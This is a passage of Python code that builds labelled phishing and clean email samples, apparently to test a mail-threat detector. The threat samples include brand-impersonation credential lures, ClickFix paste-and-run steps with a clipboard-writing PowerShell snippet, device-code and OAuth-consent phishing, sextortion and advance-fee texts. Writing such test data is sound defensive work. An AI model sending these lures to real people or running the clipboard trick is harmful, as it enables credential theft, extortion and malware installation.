         "info@jp-bank.japanpost.jp", "【ゆうちょ銀行】ゆうちょ認証アプリ",
         "https://www.jp-bank.japanpost.jp/direct/"),
        ("ja-40-clean-lion-newsletter.eml", "ライオン株式会社",
         "news@lion.co.jp", "【LION】冬の乾燥対策キャンペーン",
         "https://www.lion.co.jp/ja/campaign/"),
        ("ja-41-clean-rakuten-sec-login.eml", "楽天証券",
         "info@rakuten-sec.co.jp", "【楽天証券】ログインのお知らせ",
         "https://www.rakuten-sec.co.jp/"),
        ("ja-42-clean-paypay-card.eml", "PayPayカード",
         "info@mail.paypay-card.co.jp", "【PayPayカード】ご利用代金確定のお知らせ",
         "https://www.paypay-card.co.jp/member/"),
    ]
    for fname, name, addr, subject, link in cases:
        write(fname, ja_mail(name, addr, subject, login % name, link),
              "clean", "!sender.display_brand", "!content.brand_subject")
    # The trust bank's name from elsewhere is still its name claimed.
    write("ja-43-trust-bank-elsewhere.eml",
          ja_mail("三井住友信託銀行", "info@smtb-direct-login.top",
                  "【三井住友信託銀行】ログインのお知らせ",
                  login % "三井住友信託銀行",
                  "https://smtb-direct-login.top/login"),
          "threat", "sender.display_brand")


def session47_samples():
    """Brand names beside words written with digits for letters."""
    write("en-509-brand-host-leet.eml",
          headers("Files <notify@share-notice.example>",
                  "A document was shared with you") +
          "Content-Type: text/plain; charset=utf-8\n\nOpen the shared "
          "document:\nhttps://sharepoint-d0cs.com/view/doc?id=8812\n",
          "potential", "url.brand_in_host")
    write("en-510-clean-brand-host-digits.eml",
          headers("Webinars <events@itpro-events.example>",
                  "Next week: tenant migration") +
          "Content-Type: text/plain; charset=utf-8\n\nSlides from the "
          "last session are at https://www.office365itpros.com/slides and "
          "https://sharepoint4u.example/talks\n",
          "clean", "!url.brand_in_host")

    write("en-511-clickfix-right-click-start.eml",
          headers("Security Check <verify@cdn-guard.example>",
                  "Complete verification to view your document") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><h3>"
          "Verify you are human</h3><p>To view the document:</p><ol><li>"
          "Right-click the Start button and choose Terminal (Admin)</li>"
          "<li>Press Ctrl + V to paste the verification code</li><li>Press "
          "Enter</li></ol></body></html>\n", "threat", "content.clickfix")
    write("en-512-clean-support-right-click-start.eml",
          headers("Support <help@printvendor.example>",
                  "Re: scanner driver does not show up") +
          "Content-Type: text/plain; charset=utf-8\n\nRight-click the "
          "Start button and choose Terminal (Admin). Paste this line and "
          "press Enter:\n\n  Get-PnpDevice -Class Image | "
          "Format-Table -AutoSize\n\nSend us what it prints.\n",
          "clean", "!content.clickfix")

    write("en-513-redirect-url-in-path.eml",
          headers("Mail Admin <admin@mailbox-desk.example>",
                  "Mailbox storage full") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Your "
          "mailbox is full. Incoming messages are on hold.</p><p><a href="
          "\"https://clck.yandex.ru/redir/dtype=stred/pid=7/cid=2508/*https:"
          "//login-secure-check.top/m365/\">Release messages</a></p>"
          "</body></html>\n", "threat", "url.risky_tld")

    page = ("<html><body><h2>Secure Document Access</h2><p>To open the "
            "shared contract, go to <a href='https://microsoft.com/"
            "devicelogin'>https://microsoft.com/devicelogin</a> and enter "
            "the code <b>KQ7M-X2PD</b> when asked.</p></body></html>")
    write("en-514-device-code-html-attachment.eml",
          headers("Legal Team <legal@contract-share.example>",
                  "Contract for signature") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nPlease see the "
          "attached access instructions.\n\n--b1\nContent-Type: text/html;"
          " name=\"Access.html\"\nContent-Disposition: attachment; "
          "filename=\"Access.html\"\nContent-Transfer-Encoding: base64\n\n"
          "%s\n--b1--\n" % b64(page.encode()), "threat",
          "content.device_code")

    # Places named after a brand (an arena, a stadium) are not the brand;
    # the brand's own "center" of service words still is.
    dom = "capitalonearena.example"
    write("en-515-clean-venue-brand-name.eml",
          auth_pass(dom) +
          headers("Capital One Arena <tickets@%s>" % dom,
                  "Your tickets: Capitals vs Rangers, Dec 12") +
          "Content-Type: text/plain; charset=utf-8\n\nYour order 40218833 "
          "is confirmed. Total charged: $212.40. View your tickets at "
          "https://www.%s/account/tickets\n" % dom, "clean",
          "!sender.display_brand")
    dom = "wf-secure-center.example"
    write("en-516-brand-security-center.eml",
          auth_pass(dom) +
          headers("Wells Fargo Security Center <alerts@%s>" % dom,
                  "Unusual sign-in to your account") +
          "Content-Type: text/plain; charset=utf-8\n\nWe noticed a "
          "sign-in we do not recognise. Review it at "
          "https://%s/review\n" % dom, "threat",
          "sender.display_brand")

    # Bank lures in the languages of the banks' countries, with no brand
    # in the sender's name: the wording alone.
    for fname, subject, body, link in (
            ("es-01-banca-acceso-inusual.eml",
             "Hemos detectado un acceso inusual a su banca online",
             "Estimado cliente: por su seguridad hemos bloqueado "
             "temporalmente el acceso a su banca online tras un acceso "
             "desde un dispositivo no reconocido. Para restablecer el "
             "acceso, verifique su identidad:",
             "https://clientes-verificacion.example/acceso"),
            ("de-01-pushtan-registrierung.eml",
             "Aktualisierung Ihrer pushTAN-Registrierung erforderlich",
             "Sehr geehrte Kundin, sehr geehrter Kunde, eine erneute "
             "Registrierung Ihres pushTAN-Verfahrens ist erforderlich. Ohne "
             "Aktualisierung wird Ihr Online-Banking vorubergehend "
             "gesperrt. Jetzt aktualisieren:",
             "https://www.driving-school.example/wp-content/uploads/s/"),
            ("it-01-accesso-anomalo.eml",
             "Accesso anomalo rilevato sul tuo conto",
             "Gentile cliente, abbiamo rilevato un accesso anomalo al tuo "
             "conto da un nuovo dispositivo. Per la tua sicurezza il conto "
             "e stato limitato. Verifica ora:",
             "https://verifica-cliente.example/accesso"),
            ("nl-02-betaalpas-verloopt.eml",
             "Uw betaalpas verloopt binnenkort",
             "Geachte klant, uw huidige betaalpas verloopt binnenkort. "
             "Vraag een nieuwe betaalpas aan om te voorkomen dat uw "
             "rekening geblokkeerd wordt:",
             "https://pas-aanvragen.example/nieuw")):
        write(fname, headers("Klantenservice <service@notices.example>",
                             subject) +
              "Content-Type: text/plain; charset=utf-8\n\n" + body + "\n" +
              link + "\n", "threat" if "/wp-content/" in link else
              "potential", "content.credential_urgent"
              if "gesperrt" in body or "geblokkeerd" in body or
              "bloqueado" in body else "content.credential_request")
    # The bank's own notice, from its own domain and linking home.
    write("nl-03-clean-bank-own-notice.eml",
          auth_pass("ing.nl") +
          headers("ING <noreply@ing.nl>", "Uw betaalpas verloopt binnenkort") +
          "Content-Type: text/plain; charset=utf-8\n\nGeachte klant, uw "
          "betaalpas verloopt binnenkort. U ontvangt automatisch een nieuwe "
          "betaalpas. Bekijk uw gegevens in de app of op "
          "https://www.ing.nl/particulier/betalen\n", "clean",
          "!content.credential_request")

    # Sextortion and advance-fee letters in the other languages read.
    write("de-02-sextortion.eml",
          headers("info@hotel-seeblick.example", "Letzte Warnung") +
          "Content-Type: text/plain; charset=utf-8\n\nIch habe Ihr Gerat "
          "mit einem Trojaner infiziert und Sie beim Besuch von "
          "Erwachsenenseiten uber Ihre Kamera aufgenommen. Uberweisen Sie "
          "1200 EUR in Bitcoin an diese Adresse: "
          "bc1q7cyrfmck2ffu2ud3rn5l5a8yv6f0chkp0zpemf. Sie haben 48 Stunden, "
          "sonst sende ich das Video an alle Ihre Kontakte.\n", "threat",
          "content.extortion")
    write("es-02-donacion.eml",
          headers("Sra. Margarita Lindqvist <info@stiftelse.example>",
                  "Donacion de 1.500.000,00 EUR") +
          "Content-Type: text/plain; charset=utf-8\n\nSoy ganadora del "
          "EuroMillones. He decidido donar 1.500.000,00 EUR a cinco "
          "personas. Para recibir su donacion, envie su nombre, pais y "
          "telefono a margarita.donacion@gmail.com\n", "threat",
          "content.advance_fee")
    write("fr-01-heritage.eml",
          headers("Maitre Antoine Kouassi <cabinet.kouassi@outlook.fr>",
                  "Proposition d'affaire confidentielle") +
          "Content-Type: text/plain; charset=utf-8\n\nUn de mes clients, "
          "decede sans heritier, a laisse la somme de 4 200 000 EUR. Je "
          "souhaite vous presenter comme beneficiaire afin de transferer "
          "ces fonds. Repondez-moi en toute confidentialite.\n", "threat",
          "content.advance_fee")

    # Task scams and money mules recruiting whoever reads; a staffing
    # agency's own offer of day work, answered on its site, is none.
    write("en-517-job-task-scam.eml",
          headers("Sophie | Talent Acquisition <sophie.hr.recruit@gmail.com>",
                  "Part-time remote position - $300-$800/day") +
          "Content-Type: text/plain; charset=utf-8\n\nOur company is looking "
          "for part-time online assistants. Work 60-90 minutes a day from "
          "your phone, daily pay $300-$800. No experience required. Contact "
          "me on WhatsApp: +44 7700 900471\n", "potential",
          "content.job_scam")
    write("es-03-empleo-mula.eml",
          headers("RR.HH. Global Logistics <empleo@globallog.example>",
                  "Oferta de empleo: asistente financiero (teletrabajo)") +
          "Content-Type: text/plain; charset=utf-8\n\nBuscamos un asistente "
          "financiero para teletrabajo. Sus tareas: recibir pagos de "
          "nuestros clientes en su cuenta bancaria y transferirlos a "
          "nuestros proveedores. Comision del 10% por operacion.\n",
          "potential", "content.job_scam")
    write("en-518-clean-staffing-day-work.eml",
          headers("Northwind Staffing <jobs@northwind-staffing.example>",
                  "Warehouse shifts next week") +
          "Content-Type: text/plain; charset=utf-8\n\nWe have part-time "
          "warehouse shifts at $160 per day in Leeds next week. No "
          "experience needed; safety boots provided. Apply at "
          "https://www.northwind-staffing.example/shifts/4471\n", "clean",
          "!content.job_scam")

    # A page inside another site's WordPress folders is a site broken
    # into; WordPress's own mail to its site's admin, and a document
    # among another site's uploads, are not.
    write("en-519-wordpress-folder-page.eml",
          headers("IT Helpdesk <info@hvac-services.example>",
                  "Mailbox quota exceeded") +
          "Content-Type: text/plain; charset=utf-8\n\nYour mailbox is over "
          "its quota. Upgrade it here:\nhttps://www.driving-school.example/"
          "wp-content/uploads/2025/quota/upgrade.php?u=sales\n", "threat",
          "url.cms_page")
    write("en-520-clean-wordpress-own-mail.eml",
          headers("WordPress <wordpress@bakery.example>",
                  "[Bakery] Please moderate: \"Opening hours\"") +
          "Content-Type: text/plain; charset=utf-8\n\nA new comment is "
          "waiting for your approval.\nApprove it: https://bakery.example/"
          "wp-admin/comment.php?action=approve&c=42\nThe annual report "
          "we talked about: https://www.chamber.example/wp-content/uploads/"
          "2026/03/report.pdf\n", "clean", "!url.cms_page")

    # A brand's whole two-word name that the address spells is the
    # brand's, not a person's.
    write("en-521-brand-name-spelt-address.eml",
          headers("American Express <americanexpress@member-alerts.example>",
                  "Unusual card activity") +
          "Content-Type: text/plain; charset=utf-8\n\nWe noticed a charge "
          "that looks unusual for your account. Review it: "
          "https://cardmember-review.example/\n", "threat",
          "sender.display_brand")

    # A file share's notice as "has been shared with you", in a brand's
    # name, its link elsewhere.
    write("en-522-share-notice-shared-with-you.eml",
          headers("Customer Service <notifications@bluewave-marketing.example>",
                  "Statement-Nov.pdf has been shared with you") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>"
          "Microsoft OneDrive</p><p>A file has been shared with you via "
          "OneDrive for Business.</p><p><a href=\"https://u38472.ct."
          "sendgrid.net/ls/click?upn=u001.Gt7Yx2hQ\">View Statement-Nov.pdf"
          "</a></p></body></html>\n", "potential",
          "content.brand_links_elsewhere")

    # Review 48: a warning quoting the lures it warns of; an archive's
    # copy is quoted, not followed; a platform's own payouts, an
    # agency's day work with a chat link and its own page; a guide's
    # example device code; a brand's name with a place's word for
    # cover.
    write("de-03-clean-warning-quotes-sextortion.eml",
          headers("Verbraucherzentrale <radar@verbraucherzentrale.example>",
                  "Phishing-Radar: Erpressermails im Umlauf") +
          "Content-Type: text/plain; charset=utf-8\n\nAktuell kursieren "
          "Erpresser-Mails mit folgendem Wortlaut: \"Ihr Gerat wurde "
          "gehackt. Ich habe es mit einem Trojaner infiziert und Sie uber "
          "Ihre Kamera beim Besuch von Erwachsenenseiten gefilmt. Zahlen "
          "Sie 1200 EUR in Bitcoin an bc1q7cyrfmck2ffu2ud3rn5l5a8yv6f0chkp0zpemf"
          " innerhalb von 48 Stunden, sonst sende ich das Video an alle Ihre "
          "Kontakte.\" Unsere Empfehlung: nicht zahlen. "
          "https://www.verbraucherzentrale.example/phishingradar\n", "clean",
          "!content.extortion")
    write("en-523-clean-archived-phish-quoted.eml",
          headers("Security Newsletter <news@cert.example>",
                  "Phishing wave against bank customers") +
          "Content-Type: text/plain; charset=utf-8\n\nThe fake page has "
          "been taken down; an archived copy: https://web.archive.org/web/"
          "20260301120000/https://bank-verify-login.top/login\n", "clean",
          "!url.risky_tld")
    write("en-524-clean-payouts-platform.eml",
          headers("Freelance Hub <donotreply@freelancehub.example>",
                  "You're almost ready to get paid") +
          "Content-Type: text/plain; charset=utf-8\n\nYour first part-time "
          "contract has started. To receive payments for your work, add "
          "your bank account; you can transfer them to your bank account at "
          "any time: https://www.freelancehub.example/payments\n", "clean",
          "!content.job_scam")
    write("ja-55-clean-agency-day-pay-line.eml",
          headers("Staffing <info@staffing-jp.example>",
                  "=?utf-8?b?44CQ5rGC5Lq644CR5pel57WmMTIsMDAw5YaG?=") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "\u52df\u96c6\u4e2d\u306e\u6c42\u4eba \u672a\u7d4c\u9a13"
          "\u6b53\u8fce \u65e5\u7d6612,000\u5186 \u30b9\u30de\u30db"
          "\u3060\u3051\u3067\u5fdc\u52df LINE: https://line.me/R/ti/p/"
          "@staffing \u8a73\u7d30: https://staffing-jp.example/detail/2938"
          "\n", "clean", "!content.job_scam")
    guide = ("<html><body><p>Schalten Sie das Gerat ein. Auf dem Display "
             "erscheint ein Code. Offnen Sie am PC microsoft.com/devicelogin "
             "und geben Sie den Code ein (Beispiel: Code FQ7K-M2PX).</p>"
             "</body></html>")
    write("de-04-clean-device-code-guide.eml",
          headers("Konferenztechnik <service@konferenztechnik.example>",
                  "Anleitung Teams Rooms") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nAnbei die Anleitung."
          "\n\n--b1\nContent-Type: text/html; name=\"Anleitung.html\"\n"
          'Content-Disposition: attachment; filename="Anleitung.html"\n'
          "Content-Transfer-Encoding: base64\n\n%s\n--b1--\n"
          % b64(guide.encode()), "potential", "!content.device_code")
    write("en-525-brand-place-cover.eml",
          headers("PayPal Center <service@resolution-pp.example>",
                  "Your account access is limited") +
          "Content-Type: text/plain; charset=utf-8\n\nReview your account: "
          "https://resolution-pp.example/review\n", "threat",
          "sender.display_brand")

    write("en-526-cms-uploads-other-cms.eml",
          headers("Billing <billing@invoices-hub.example>", "Invoice 88213") +
          "Content-Type: text/plain; charset=utf-8\n\nYour invoice is "
          "ready: https://www.gemeinde.example/sites/default/files/inv/"
          "view.php\n", "clean", "url.cms_page")
    write("en-527-cms-uploads-encoded.eml",
          headers("Billing <billing@invoices-hub.example>", "Invoice 88214") +
          "Content-Type: text/plain; charset=utf-8\n\nYour invoice is "
          "ready: https://www.bakery.example/WP%2DCONTENT/UPLOADS/2026/inv/"
          "\n", "clean", "url.cms_page")

    write("en-528-redirect-path-double-encoded.eml",
          headers("Mail Admin <admin@mailbox-desk.example>",
                  "Mailbox storage full") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Your "
          "mailbox is full. Incoming messages are on hold.</p><p><a href="
          "\"https://t.mailer.example/r/https%253A%252F%252Flogin-secure-"
          "check.top%252Fm365\">Release messages</a></p></body></html>\n",
          "threat", "url.risky_tld")

    # The steps twice, in the plain part and in the HTML one: the paste
    # nearest the run key counts, not the last one.
    steps = ("Right-click the Start button and choose Terminal (Admin). "
             "Press Ctrl + V to paste the verification code. Press Enter.")
    foot = ("This message was sent to you because a document was shared "
            "with your address. Our offices are open Monday to Friday. "
            "Please do not reply to this automated message; replies are "
            "not read. Copyright 2026, all rights reserved worldwide.")
    write("en-529-clickfix-plain-and-html.eml",
          headers("Security Check <verify@cdn-guard.example>",
                  "Complete verification to view your document") +
          'Content-Type: multipart/alternative; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nVerify you are human."
          " To view the document: %s %s\n\n--b1\nContent-Type: text/html; "
          "charset=utf-8\n\n<html><body><h3>Verify you are human</h3><p>To "
          "view the document:</p><p>%s</p><p>%s</p></body></html>\n--b1--\n"
          % (steps, foot, steps, foot), "threat", "content.clickfix")


def session44_samples():
    """After review 42/43: a brand's whole domain written in front of a
    domain registered elsewhere is the brand imitated; a brand's own
    country domain (google.com.au holds "google.com.") and a brand's site
    on a shared service are not."""
    write("en-463-brand-domain-in-front.eml",
          headers("PayPal <service@account-review.top>",
                  "Your account access has been limited") +
          "Content-Type: text/plain; charset=utf-8\n\nWe noticed unusual "
          "activity. Review your account:\n"
          "https://www.paypal.com.account-review.top/signin\n",
          "threat", "url.lookalike_brand")
    write("en-464-clean-brand-country-domain.eml",
          headers("Amazon.com.au <store-news@amazon.com.au>",
                  "Your order has shipped") +
          "Content-Type: text/plain; charset=utf-8\n\nTrack it at "
          "https://www.amazon.com.au/gp/your-account/order-history\n",
          "clean", "!url.lookalike_brand")
    # ClickFix: a "verification" that has the reader open Windows' Run
    # box and paste what the page put on the clipboard.
    write("en-465-clickfix-text.eml",
          headers("Booking Partner Help <help@guest-review-desk.example>",
                  "Guest complaint - verify to view") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><h3>"
          "Verify you are human</h3><ol><li>Press <b>Windows Key + R</b>"
          "</li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li>"
          "</ol></body></html>\n", "threat", "content.clickfix")
    page = ("<html><body><div>Verify you are human</div><script>function "
            "c(){navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBo'"
            "));document.getElementById('s').hidden=false}</script><button "
            "onclick='c()'>I am not a robot</button><div id='s' hidden>1. "
            "Press Win+R 2. Press Ctrl+V 3. Press Enter</div></body></html>")
    write("en-466-clickfix-html-attachment.eml",
          headers("Accounts <accounts@hvac-billing.example>", "Invoice 4471") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nInvoice attached."
          "\n\n--b1\nContent-Type: text/html; name=\"Invoice_4471.html\"\n"
          'Content-Disposition: attachment; filename="Invoice_4471.html"\n'
          "Content-Transfer-Encoding: base64\n\n%s\n--b1--\n"
          % b64(page.encode()), "threat", "attach.html_clickfix")
    # A warning that describes the attack, and a vendor's support steps
    # that open the Run box to type a control panel's name.
    write("en-467-clean-clickfix-warning.eml",
          headers("Security Weekly <news@securityweekly.example>",
                  "This week: fake CAPTCHA pages") +
          "Content-Type: text/plain; charset=utf-8\n\nAttackers are "
          "showing fake CAPTCHA pages that tell visitors to press Win+R, "
          "then Ctrl+V and Enter, which runs a PowerShell command that "
          "installs an infostealer.\n", "clean", "!content.clickfix")
    write("en-468-clean-run-box-support.eml",
          headers("Support <support@printer-vendor.example>",
                  "Re: removing the old driver") +
          "Content-Type: text/plain; charset=utf-8\n\nPress Win+R, type "
          "appwiz.cpl and press Enter, then remove the old driver.\n",
          "clean", "!content.clickfix")
    write("ja-44-clickfix.eml",
          headers("=?UTF-8?B?5pys5Lq656K66KqN?= <check@verify-desk.example>",
                  "=?UTF-8?B?5pys5Lq656K66KqN44Gu44GK6aGY44GE?=") +
          "Content-Type: text/plain; charset=utf-8\n\n"
          "ロボットでないことを確認します。\n1. Windowsキー + R を押す\n"
          "2. Ctrl + V で貼り付ける\n3. Enter を押す\n",
          "threat", "content.clickfix")
    # Device code phishing: a code to enter at Microsoft's device page.
    write("en-469-device-code.eml",
          headers("IT Service Desk <servicedesk@it-help-portal.example>",
                  "Re-register your device for MFA") +
          "Content-Type: text/plain; charset=utf-8\n\n1. Go to "
          "https://microsoft.com/devicelogin\n2. Enter the code: KQ7M-X2PD"
          "\n3. Sign in with your work account.\n",
          "threat", "content.device_code")
    write("en-470-clean-device-page-no-code.eml",
          headers("Streaming Help <help@tv-streaming.example>",
                  "Signing in on your TV") +
          "Content-Type: text/plain; charset=utf-8\n\nOn your TV, open the "
          "app; it shows a code. Then go to https://microsoft.com/devicelogin"
          " on your phone and enter the code shown on the TV.\n",
          "clean", "!content.device_code")
    # OAuth consent phishing: Microsoft's own consent page for an
    # application that wants the mailbox and sends the grant elsewhere;
    # a service's own "connect your calendar" link grants to itself.
    write("en-471-oauth-consent.eml",
          headers("Sarah Chen <sarah.chen@fabrikam.com>",
                  "Updated payment schedule") +
          "Content-Type: text/plain; charset=utf-8\n\nPlease accept the "
          "viewer permissions to open the protected file:\n"
          "https://login.microsoftonline.com/organizations/oauth2/v2.0/"
          "authorize?client_id=9bf11ad0-2d6c-4a1e-8d0f-5c2e7a3b1f44&"
          "redirect_uri=https%3A%2F%2Fsecure-file-view.example%2Foauth&"
          "response_type=code&scope=offline_access%20Mail.Read&"
          "prompt=consent\n", "potential", "url.oauth_consent")
    write("en-472-clean-oauth-own-service.eml",
          "Authentication-Results: spf=pass smtp.mailfrom=calendly-like."
          "example; dkim=pass header.d=calendly-like.example; dmarc=pass "
          "action=none header.from=calendly-like.example; compauth=pass "
          "reason=100\n" +
          headers("Scheduler <team@calendly-like.example>",
                  "Connect your calendar") +
          "Content-Type: text/plain; charset=utf-8\n\nConnect your "
          "Outlook calendar: https://login.microsoftonline.com/common/"
          "oauth2/v2.0/authorize?client_id=4f1c2d3e-0000-4a1e-8d0f-"
          "5c2e7a3b1f44&redirect_uri=https%3A%2F%2Fapp.calendly-like."
          "example%2Fcallback&response_type=code&scope=offline_access%20"
          "Calendars.ReadWrite\n", "clean", "!url.oauth_consent")

    # An Apps Script web app is a page anyone publishes under Google's
    # name.
    write("en-473-apps-script-page.eml",
          headers("Karen Whitfield <kwhitfield@whitfield-law.example>",
                  "Shared document") +
          "Content-Type: text/plain; charset=utf-8\n\nPlease review the "
          "shared document: https://script.google.com/macros/s/AKfycbx9Qw3"
          "ErTy7UiOpAsDfGhJkLzXcVbNm12345/exec\n", "potential",
          "url.free_hosting")
    # A brand's name beside what its file shares and invoices are called
    # (not inside its own name: SharePoint holds "share").
    write("en-474-brand-share-words-host.eml",
          headers("Tom Reed <treed@reed-supply.example>",
                  "Tom Reed shared \"Q4 Payment Summary\" with you") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Tom "
          "Reed shared a file with you</p><p><a href='https://sharepoint-"
          "docs.example/personal/treed/Q4.aspx'>Open</a></p></body></html>"
          "\n", "potential", "url.brand_in_host")
    # The callback scam's "receipt" as a Word document: its text read
    # with runs that cut words and numbers, entities and paragraphs.
    doc = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http'
           '://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           '<w:p><w:r><w:t>Order Confirmation</w:t></w:r></w:p><w:p><w:r>'
           '<w:t xml:space="preserve">Your Norton 360 Deluxe subscription '
           'has been ren</w:t></w:r><w:r><w:t>ewed and $399.99 has been '
           'charged to your card.</w:t></w:r></w:p><w:p><w:r><w:t xml:'
           'space="preserve">If you did not authorize this &amp; wish to '
           'cancel, call our billing desk at +1 (808) </w:t></w:r><w:r>'
           '<w:t>215-4471</w:t></w:r><w:r><w:t xml:space="preserve"> within '
           '24 hours.</w:t></w:r></w:p></w:body></w:document>')
    docx = zipbytes([("[Content_Types].xml", DOCX_TYPES),
                     ("word/document.xml", doc)])
    write("en-475-docx-callback.eml",
          headers("Billing Dept <billing.dept.4471@gmail.com>",
                  "Your receipt") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nPlease see the "
          "attached receipt.\n\n--b1\nContent-Type: application/vnd."
          "openxmlformats-officedocument.wordprocessingml.document; "
          'name="Receipt_3391.docx"\nContent-Disposition: attachment; '
          'filename="Receipt_3391.docx"\nContent-Transfer-Encoding: '
          "base64\n\n%s\n--b1--\n" % b64(docx), "threat",
          "attach.doc_callback", "sender.freemail_money")
    # Sextortion in an attached PDF, the mail a line.
    ext = ["I have installed spyware on your device and recorded you.",
           "Send 1500 USD in bitcoin to the wallet below within 48 hours",
           "or the video goes to all your contacts.",
           "BTC: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"]
    write("en-476-doc-extortion-pdf.eml",
          headers("John Smith <js.private.8812@outlook.example>",
                  "John Smith - 12 Maple St") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nRead the attached."
          "\n--b1\nContent-Type: application/pdf; name=\"JS.pdf\"\n"
          "Content-Disposition: attachment; filename=\"JS.pdf\"\n"
          "Content-Transfer-Encoding: base64\n\n" +
          b64(pdf_simple_text(ext)) + "\n--b1--\n", "threat",
          "attach.doc_extortion")
    # Review 44: companies whose names begin with a brand's (listed as
    # brands of their own, so the longer name wins), a brand's own
    # top-level domain, each authentic.
    from email.header import Header
    for fname, name, addr, subject, link in (
            ("en-477-clean-other-org-brand-name.eml", "Norton Rose Fulbright",
             "insights@nortonrosefulbright.com", "Regulatory update",
             "https://www.nortonrosefulbright.com/en/knowledge"),
            ("en-478-clean-brand-tld.eml", "Apple Card",
             "no-reply@post.applecard.apple", "Your statement is ready",
             "https://card.apple.com/statements"),
            ("ja-45-clean-group-company.eml", "三井住友海上",
             "info@ms-ins.com", "【三井住友海上】契約内容のお知らせ",
             "https://www.ms-ins.com/mypage/")):
        dom = addr.split("@")[1]
        write(fname, auth_pass(dom) + headers(
              Header(name, "utf-8").encode() + " <%s>" % addr,
              Header(subject, "utf-8").encode()) +
              "Content-Type: text/plain; charset=utf-8\n"
              "Content-Transfer-Encoding: 8bit\n\nPlease see " + link +
              "\n", "clean", "!sender.display_brand")
    # The brand's name with a lure's word, spelt by the sender's own
    # domain, authentic as any domain can be: the brand claimed.
    write("en-479-brand-name-domain-lure.eml",
          auth_pass("paypalsecure.example") +
          headers("PayPal Secure <service@paypalsecure.example>",
                  "Your account is limited") +
          "Content-Type: text/plain; charset=utf-8\n\nReview your account "
          "at https://paypalsecure.example/review\n", "threat",
          "sender.display_brand")
    # The organisation's own HR, internal, linking to its form on
    # Microsoft Forms: nothing of who sent it is hidden.
    write("en-480-clean-internal-forms.eml",
          "X-MS-Exchange-Organization-AuthAs: Internal\n" +
          headers("Megan Bowen <megan.bowen@contoso.com>",
                  "Benefits enrolment form") +
          "Content-Type: text/plain; charset=utf-8\n\nPlease fill in the "
          "benefits enrolment form by Friday: https://forms.office.com/r/"
          "AbCdEf1234\n", "clean", "!url.anonymous_only")
    # A colleague's name on GitHub's mail about the organisation's own
    # repositories (its List-Id under contoso.github.com), and on a
    # repository of an organisation named otherwise.
    for fname, lid, verdict, rule in (
            ("en-481-clean-github-org-notice.eml", "contoso/webapp "
             "<webapp.contoso.github.com>", "clean", "!sender.display_person"),
            ("en-482-github-other-org-colleague.eml", "contoso-hr/payroll "
             "<payroll.contoso-hr.github.com>", "potential",
             "sender.display_person")):
        write(fname, auth_pass("github.com") + "List-ID: %s\n" % lid +
              headers("John Smith <notifications@github.com>",
                      "[webapp] Review requested (PR #412)") +
              "Content-Type: text/plain; charset=utf-8\n\n@jsmith requested "
              "your review on #412.\nhttps://github.com/contoso/webapp/pull/"
              "412\n", verdict, rule)
    # A reseller's own authentic renewal notice for a brand's licences,
    # its name its domain's, with its sales desk's number: passing DMARC
    # says no more than that someone registered the domain (review 45),
    # so it is weighed as the scam is; listing the reseller as a
    # correspondent clears it (en-459).
    write("en-483-reseller-renewal-unlisted.eml",
          auth_pass("softwareone-like.example") +
          headers("SoftwareOne-like Inc. <renewals@softwareone-like.example>",
                  "Renewal quote: Adobe Acrobat Pro (Contoso)") +
          "Content-Type: text/plain; charset=utf-8\n\nHello John,\n\nYour "
          "Adobe Acrobat Pro subscription (25 licenses) renews automatically "
          "on December 15; the card on file will be charged $5,397.00. If "
          "you want to change the license count or cancel, call me at "
          "+1 732-764-8888 before December 10.\n\nDana Ruiz, Inside Sales"
          "\n", "threat", "content.callback")
    # Japanese account phishing written with particles: 不正なアクセス,
    # ロックを解除, 利用が制限 (review 42).
    write("ja-46-cred-particles.eml",
          headers("=?UTF-8?B?44GK5a6i5qeY44K744Oz44K/44O8?= "
                  "<center@direct-notice.example>",
                  "=?UTF-8?B?44GU5Yip55So44Gu5Yi26ZmQ44Gr44Gk44GE44Gm?=") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\n"
          "お客様のアカウントに不正なアクセスがありました。\n"
          "セキュリティ上の理由により、ご利用が制限されています。\n"
          "ロックを解除するには、下記よりお手続きください。\n"
          "https://direct-notice.example/unlock\n", "potential",
          "content.credential_request")
    # An invitation whose link is folded across the calendar's lines and
    # follows an escaped line break: read as a calendar program shows it.
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\n"
           "BEGIN:VEVENT\r\nORGANIZER;CN=\"HR\":mailto:hr@talent-hr.example"
           "\r\nDTSTART:20261203T150000Z\r\nSUMMARY:Q4 bonus review\r\n"
           "DESCRIPTION:Hello\\,\\nPlease review the document before the "
           "meeting:\\nht\r\n tps://hr-docs-portal.pages.dev/q4?u=taro.yama"
           "\r\n da@contoso.com\\nSign in to access.\r\nEND:VEVENT\r\n"
           "END:VCALENDAR\r\n")
    write("en-484-ics-folded-link.eml",
          headers("HR Department <hr@talent-hr.example>",
                  "Invitation: Q4 bonus review") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nYou have been "
          "invited.\n\n--b1\nContent-Type: text/calendar; method=REQUEST; "
          'name="invite.ics"\nContent-Disposition: attachment; '
          'filename="invite.ics"\nContent-Transfer-Encoding: base64\n\n'
